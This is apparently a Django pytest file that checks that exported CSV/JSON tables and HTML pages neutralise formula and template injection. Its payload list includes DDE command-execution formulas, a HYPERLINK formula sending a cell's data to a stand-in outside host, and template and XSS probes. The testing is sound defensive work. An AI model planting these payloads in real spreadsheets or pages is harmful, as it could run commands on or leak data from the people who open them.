"""No cell of an exported table is a formula, and no text of ours is read as a template."""

import csv
import io
import json
import re

import pytest
from django.db import IntegrityError, models, transaction

from apps.teams.scoping import everywhere
from tests.architecture.world import MODELS, pages_read_by, rows_of, text_of, words_in
from tests.support.answers import put_away

pytestmark = [pytest.mark.xdist_group("world of exports"), pytest.mark.django_db]
TABLES = [name for name in pages_read_by("owner") if re.search(r"(csv|json|export)$", name)]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
# What spreadsheets take for the beginning of a formula, in every width (OWASP, "CSV injection").
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
EVIL = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://elsewhere.example/?"&A1)', "=IMPORTXML(A1)",
    "-2+3+cmd|' /C calc'!A0",
    'a"\r\n=1+1,"', "a,=1+1", "a\n=1+1", " =1+1", "'=1+1",
    '"=1+1', "\u200b=1+1", "\ufeff=1+1", "\x00=1+1",
]  # fmt: skip
TEMPLATES = "{{ 191|add:1146 }}{% widthratio 191 1 7 %}${191*7}<img src=x onerror=alert(7)>\"'"


def write_everywhere(team, text: str) -> None:
    """Put this text into every column of our team that holds words."""
    with everywhere():
        for model in MODELS:
            for row in rows_of(model, team):
                for field in words_in(model):
                    if not isinstance(field, models.EmailField):
                        _write(model, row, field, text.replace("\x00", ""))


def _write(model, row, field, text) -> None:
    for value in (text, f"{text} {row.pk}"):
        try:
            with transaction.atomic():
                models.QuerySet(model).filter(pk=row.pk).update(
                    **{field.name: value[: field.max_length or None]}
                )
        except IntegrityError:  # a name that another row has, so far
            continue
        return


def download(world, name) -> str:
    """The table as it is sent."""
    response = world.browser("owner").get(world.way(name))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert "utf-8" in response["Content-Type"] or "json" in response["Content-Type"]
    data = b"".join(response.streaming_content) if response.streaming else response.content
    put_away(response)
    return data.decode("utf-8")


def test_exported_tables_are_found_by_their_addresses():
    assert {"budgets:ledger_csv", "reports:clips_csv"} <= set(TABLES)


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_no_cell_of_any_table_is_a_formula(world, evil):
    write_everywhere(world.ours.team, evil)
    for name in TABLES:
        text = download(world, name)
        if text.lstrip("\ufeff").startswith(("{", "[")):
            json.loads(text)
            continue
        assert text.startswith("\ufeff"), "without it, spreadsheets guess the letters"
        heading, *rows = csv.reader(io.StringIO(text[1:], newline=""))
        assert rows
        assert {len(row) for row in rows} == {len(heading)}, (
            "no text begins a cell or a line of its own"
        )
        for cell in (cell for row in rows for cell in row):
            assert NUMBER.match(cell) or not visible_text(cell).startswith(BEGINNINGS), (name, cell)


def visible_text(cell: str) -> str:
    """A cell without what spreadsheets skip before they look for a formula."""
    return cell.lstrip(" \ufeff\u200b\u00a0")


def test_no_text_is_read_as_a_template_or_as_html(world):
    write_everywhere(world.ours.team, TEMPLATES)
    browser = world.browser("owner")
    for name in pages_read_by("owner"):
        said = text_of(browser.get(world.way(name)))
        if "text/html" in said.partition("\n")[0]:
            assert "1337" not in said, name
            assert "<img src=x" not in said, name
